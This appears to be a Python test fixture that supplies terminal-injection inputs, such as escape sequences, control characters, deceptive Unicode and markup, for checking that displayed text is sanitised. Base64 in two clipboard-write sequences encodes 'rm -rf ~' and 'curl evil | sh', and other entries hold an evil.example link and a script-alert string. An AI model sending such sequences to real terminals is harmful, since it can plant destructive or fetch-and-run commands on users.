"""What an attacker writes into text that will be shown in a terminal."""

from __future__ import annotations

import itertools

ESCAPES = (
    "\x1b[31;1mcolour\x1b[0m",
    "\x1b[8mconcealed\x1b[28m",
    "\x1b]0;title\x07",
    "\x1b]2;title\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4K\x07",
    "\x1b]52;p;Y3VybCBldmlsIHwgc2g=\x1b\\",
    "\x1b]8;;https://evil.example/\x1b\\a link\x1b]8;;\x1b\\",
    "\x1b]1337;File=name=eA==;inline=1:AAAA\x07",
    "\x1b[2J\x1b[H",
    "\x1b[999;999Hcorner",
    "\x1b[1A\x1b[2Kerased",
    "\x1b[s\x1b[5;5Hmoved\x1b[u",
    "\x1b[?1049l\x1b[?25l",
    "\x1b[?1003h\x1b[?1006h",
    "\x1b[?2026h",
    "\x1b[6n\x1b[c\x1b[>q",
    "\x1bP+q544e\x1b\\",
    "\x1bPq#0;2;0;0;0#0~~@@vv@@~~$-\x1b\\",
    "\x1b_Ga=T,f=100;AAAA\x1b\\",
    "\x1b^private\x1b\\",
    "\x1bX string \x1b\\",
    "\x1bc",
    "\x1b(0lqqk\x1b(B",
    "\x1b#8",
    "\x1b[20l\x1b[4h",
    "\x1b",
)
"""Sequences for 7-bit terminals, and one that waits for what comes after it."""

CONTROLS = (
    "\x9b31mC1 colour\x9b0m",
    "\x9d0;C1 title\x9c",
    "\x90+q544e\x9c",
    "\x85next line",
    "\x8dreverse line feed",
    "a\x00b",
    "bell\x07",
    "secret\x08\x08\x08\x08\x08\x08public",
    "innocent\rguilty",
    "a\x0bb\x0cc",
    "\x0e\x0f\x05\x18\x1a",
    "rub\x7fout",
    "tab\tstop",
    "\u2028line\u2029paragraph",
)
"""Single controls of both sets, and the two separators that some programs break lines at."""

UNICODE = (
    "\u202egpj.exe\u202c",
    "\u2066isolated\u2067detalosi\u2069",
    "\u200e\u200f\u061cmarks",
    "ad\u200bmin\u200c\u200d\u2060",
    "\ufeffmark",
    "soft\u00adhyphen",
    "e" + "\u0301" * 40,
    "\u1160\u3164\u115ffillers",
    "\U000e0041\U000e0042tags",
    "\ufff9annotation\ufffahidden\ufffb",
    "\ufffe\uffff\U0001ffff",
    "\ue000\uf8ffprivate",
    "漢字カナ한글",
    "👩\u200d👩\u200d👧\u200d👦🏴\U000e0067\U000e007f❤\ufe0f",
    "раураl",
)
"""Characters that reorder, vanish, pile up, or take another width than one would think."""

MARKUP = (
    "[/]",
    "[/red]",
    "[red]",
    "[bold",
    "[[]]",
    "\\[/]",
    "[@click=app.quit]x[/]",
    "[@click=app.bell()]y[/]",
    "[link=https://evil.example]z[/link]",
    "[on red blink]w[/]",
    "re [a-z]+ [/foo]",
    "$accent {0} %s %(x)s {user}",
    "<script>alert(1)</script>&amp;",
    "`backticks` **bold** [a](javascript:b)",
)
"""What toolkits for terminals, templates and browsers would read as more than text."""

EVERYTHING = (*ESCAPES, *CONTROLS, *UNICODE, *MARKUP)


class Attacker:
    """Gives texts with a few attacks each, in turn, so that all of them come up again and again."""

    def __init__(self) -> None:
        self._attacks = itertools.cycle(EVERYTHING)
        self._numbers = itertools.count(1)

    def text(self, place: str, count: int = 4) -> str:
        """A text for a place in the trace; it begins with the place and a number, so no two are the same."""
        return f"{place} {next(self._numbers)} " + " ".join(itertools.islice(self._attacks, count))

    def all(self, place: str) -> str:
        """Every attack, one to a line."""
        return "\n".join([place, *EVERYTHING])
